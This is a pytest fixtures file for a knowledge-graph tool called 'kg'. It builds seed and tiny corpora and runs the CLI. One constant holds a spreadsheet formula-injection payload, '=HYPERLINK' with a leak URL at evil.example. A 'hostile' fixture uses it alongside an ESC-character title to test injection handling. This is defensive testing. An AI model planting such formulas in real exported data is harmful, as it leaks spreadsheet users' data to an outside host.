"""Shared fixtures: the seed graph built once, and small corpora written by hand."""

from __future__ import annotations

import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

import kg

ROOT = Path(__file__).resolve().parent.parent
SEEDS = ROOT / "seeds"
DATA = Path(__file__).resolve().parent / "data"


@pytest.fixture(scope="session")
def seed_store(tmp_path_factory) -> str:
    """The seed corpus built into an embedded store (once per test run)."""
    folder = tmp_path_factory.mktemp("seed-store")
    store = str(folder / "store")
    kg.build(SEEDS, store=store, out=folder / "out")
    return store


@pytest.fixture(scope="session")
def seed_corpus() -> kg.Corpus:
    return kg.read_corpus(SEEDS)


@pytest.fixture
def tiny_corpus(tmp_path) -> Path:
    """A copy of tests/data/tiny: a registry and two three-sentence articles that disagree."""
    folder = tmp_path / "tiny"
    shutil.copytree(DATA / "tiny", folder)
    return folder


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
"""The spreadsheet formula that tests/data/hostile puts in a name and a quote."""


@pytest.fixture(scope="session")
def hostile_store(tmp_path_factory) -> str:
    """tests/data/hostile built: tests/data/tiny with formulas in names and a quote, an ESC in a title."""
    store = str(tmp_path_factory.mktemp("hostile") / "store")
    kg.build(DATA / "hostile", store=store, out=None)
    return store


def write(path: Path, text: str) -> Path:
    """Write dedented text (UTF-8) and return the path."""
    path.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
    return path


def run_kg(*args: str, cwd: Path | None = None, env: dict | None = None) -> subprocess.CompletedProcess:
    """Run the real ``kg`` command line in a subprocess."""
    return subprocess.run(
        [sys.executable, "-m", "kg.cli", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
